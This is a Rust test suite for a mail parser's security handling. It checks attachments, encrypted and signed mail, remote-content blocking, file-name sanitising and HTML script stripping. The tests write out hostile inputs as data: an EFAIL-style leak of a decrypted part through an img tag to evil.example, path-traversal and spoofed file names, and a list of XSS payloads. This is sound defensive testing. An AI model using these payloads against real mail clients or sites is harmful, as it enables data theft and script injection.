//! The same for what a mail carries: files, versions, HTML.

use super::{has, mail, texts};
use crate::mail::inbound::Attachment;

fn files(rest: &str) -> Vec<Attachment> {
    mail(rest).attachments
}

#[test]
fn t47_winmail_is_one_file() {
    let raw = "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nsee file\r\n--b\r\n\
        Content-Type: application/ms-tnef; name=winmail.dat\r\n\
               Content-Transfer-Encoding: base64\r\n\r\neJ8+IgEAAAD//////////w==\r\n--b--\r\n";
    let mail = mail(raw);
    assert_eq!((mail.words.text.as_str(), has(&mail, "winmail-dat")), ("see file", true));
    assert_eq!((mail.attachments[0].filename.as_str(), mail.attachments[0].size), ("winmail.dat", 16));
    assert_eq!(mail.attachments.len(), 1);
}

#[test]
fn t48_sealed_mail_is_kept_whole_and_marked() {
    let secret = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----\r\n";
    let encrypted = format!(
        "--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\n\
            Content-Type: application/octet-stream\r\n\r\n{secret}--c--\r\n"
    );
    let kind = "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=c";
    let alone = mail(&format!("Content-Type: {kind}\r\n\r\n{encrypted}"));
    assert_eq!((has(&alone, "encrypted"), alone.attachments.len(), alone.html.as_deref()), (true, 2, None));
    // EFAIL: the sealed part inside an open tag of its neighbour.
    let wrapped = mail(&format!(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n\
            <img src=\"http://evil.example/\r\n\
         --b\r\nContent-Type: {kind}\r\n\r\n{encrypted}--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n"
    ));
    assert!(has(&wrapped, "encrypted") && wrapped.attachments.len() == 2);
    assert!(
        texts(&wrapped).iter().all(|t| !t.contains("hQEMA")),
        "a sealed part is never joined with its neighbours"
    );
    assert!(has(&mail(&format!("\r\n{secret}")), "encrypted"));
    let smime = |kind: &str| {
        mail(&format!(
            "Content-Type: application/pkcs7-mime; {kind}; name=smime.p7m\r\n\
                Content-Transfer-Encoding: base64\r\n\r\nMIAG"
        ))
    };
    assert!(has(&smime("smime-type=enveloped-data"), "encrypted"));
    assert!(has(&smime("smime-type=signed-data"), "signed-unread"));
    let signed = mail(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; \
            boundary=b\r\n\r\n--b\r\n\r\nwords\r\n\
         --b\r\nContent-Type: application/pgp-signature; name=signature.asc\r\n\r\nx\r\n--b--\r\n",
    );
    assert_eq!((signed.words.text.as_str(), has(&signed, "signature-unchecked")), ("words", true));
    assert_eq!(signed.attachments.len(), 1);
}

#[test]
fn t50_what_differs_is_marked_and_nothing_is_fetched() {
    let both = |plain: &str, html: &str| {
        mail(&format!(
            "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\n{plain}\r\n--b\r\n\
                Content-Type: text/html\r\n\r\n{html}\r\n--b--\r\n"
        ))
    };
    let differs = both(
        "Please send my printer back, thanks.",
        "<p>Wire ten thousand dollars to this account today</p>",
    );
    assert_eq!((has(&differs, "alternatives-differ"), differs.words.text.contains("printer")), (true, true));
    assert!(!has(
        &both("Please send my printer back", "<p>Please <b>send</b> my printer back</p>"),
        "alternatives-differ"
    ));
    let outside = mail(
        "Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/x\"\r\n\r\n\
            Content-Type: text/plain\r\n\r\n",
    );
    assert!(has(&outside, "external-body"));
    assert!(has(
        &mail("Content-Type: message/partial; number=1; total=2; id=x\r\n\r\nSubject: y\r\n\r\nz"),
        "partial-message"
    ));
}

#[test]
fn t51_forty_hostile_file_names() {
    let long = format!("{}.pdf", "x".repeat(10_000));
    let names = [
        "../../etc/passwd",
        "/etc/passwd",
        "..\\..\\boot.ini",
        "C:\\Windows\\x.exe",
        "\\\\host\\share\\x",
        ".htaccess",
        "..htaccess",
        "\u{200b}.htaccess",
        ".\u{200d}htaccess",
        "\u{202e}.htaccess",
        "\u{ad}.\u{ad}htaccess",
        "a\u{202e}gpj.exe",
        "con",
        "CON.txt",
        "nul",
        "aux.c",
        "com1",
        "LPT9.txt",
        "prn.",
        "a\r\nb.txt",
        "a\0b.txt",
        "a\tb",
        ".",
        "..",
        "...",
        " ",
        "",
        "a/",
        "a/..",
        "./a",
        "a:b",
        "a|b",
        "a*?<>\"b",
        "a\u{2028}b",
        "a\u{feff}b",
        "%2e%2e%2fx",
        "=?utf-8?q?..=2Fx?=",
        " . x . ",
        "x\u{85}y",
        &long,
    ];
    assert_eq!(names.len(), 40);
    for name in names {
        let encoded: String = name.bytes().map(|b| format!("%{b:02X}")).collect();
        let found = files(&format!("Content-Type: application/x; name*=utf-8''{encoded}\r\n\r\nx"));
        let shown = &found[0].filename;
        let bad = |c: char| {
            c.is_control() || "/\\<>:\"|?*\u{200b}\u{200d}\u{202e}\u{ad}\u{2028}\u{feff}".contains(c)
        };
        assert!(
            shown.len() <= 150 && !shown.starts_with('.') && !shown.ends_with('.') && !shown.contains(bad),
            "{name:?}: {shown:?}"
        );
        let stem = shown.split('.').next().unwrap_or("").to_ascii_lowercase();
        assert!(
            !["con", "nul", "aux", "prn", "com1", "lpt9"].contains(&stem.as_str()),
            "{name:?}: {shown:?}"
        );
    }
}

#[test]
fn t52_t53_content_is_never_loaded() {
    let page = "<img src=file:///etc/passwd><img src=http://evil.example/x.png><link rel=stylesheet \
        href=http://evil.example/c.css>\
                <iframe src=http://evil.example></iframe><object data=http://evil.example></object><video \
                src=http://evil.example></video>\
                <div style=\"background:url(http://evil.example/b)\">words</div><table \
                background=http://evil.example/t><tr><td>cell</table>\
                <style>@import url(http://evil.example/i);</style><base href=http://evil.example><meta \
                http-equiv=refresh content=\"0;url=http://evil.example\">";
    let mail = mail(&format!("Content-Type: text/html\r\n\r\n{page}"));
    let html = mail.html.as_deref().expect("a page");
    assert!(html.contains("words") && html.contains("cell"));
    for word in ["evil.example", "file:", "passwd", "url(", "@import"] {
        assert!(!html.contains(word), "{word} in {html}");
    }
}

#[test]
fn t54_t55_no_script_survives() {
    for page in [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=data:text/html,x>x</a>",
        "<form action=x><button formaction=javascript:x>",
        "<img src=x onerror=alert(1)>",
        "<p style=x:expression(alert(1))>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>x</script></template>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<!--><script>alert(1)</script>-->",
        "<x onclick=alert(1)>y</x>",
    ] {
        let clean = mail(&format!("Content-Type: text/html\r\n\r\n{page}"))
            .html
            .expect("a page")
            .to_ascii_lowercase();
        // What is left of it as text is escaped; as markup nothing is.
        for tag in clean.split('<').skip(1).map(|t| t.split('>').next().unwrap_or("")) {
            let names = ["script", "svg", "math", "style", "form", "button", "noscript", "template", "x"];
            assert!(
                !names.contains(&tag.split([' ', '/']).find(|w| !w.is_empty()).unwrap_or("")),
                "{page}: {clean}"
            );
            assert!(
                !tag.contains("javascript:") && !tag.contains("onerror=a") && !tag.contains("data:"),
                "{page}: {clean}"
            );
        }
    }
    let named =
        mail("Subject: \"><svg onload=alert(1)>\r\nTo: \"<b>\" <a@b.example>\r\n\r\n<b>not markup</b>");
    assert_eq!((named.html, named.words.text.as_str()), (None, "<b>not markup</b>"));
}

#[test]
fn t56_t57_pictures_come_from_the_same_mail_alone() {
    let page = "<img src=\"cid:a@b\"><img src=\"https://t.example/p.gif\" width=1 height=1><img \
        src=//t.example/p><img src=data:image/png;base64,AA==>\
                <img srcset=\"https://t.example/2x 2x\" width=99999 alt=z>";
    let html = mail(&format!("Content-Type: text/html\r\n\r\n{page}")).html.expect("a page");
    assert_eq!(html.matches("src=").count(), 1, "{html}");
    assert!(html.contains("cid:a@b") && !html.contains("t.example") && !html.contains("99999"), "{html}");
}
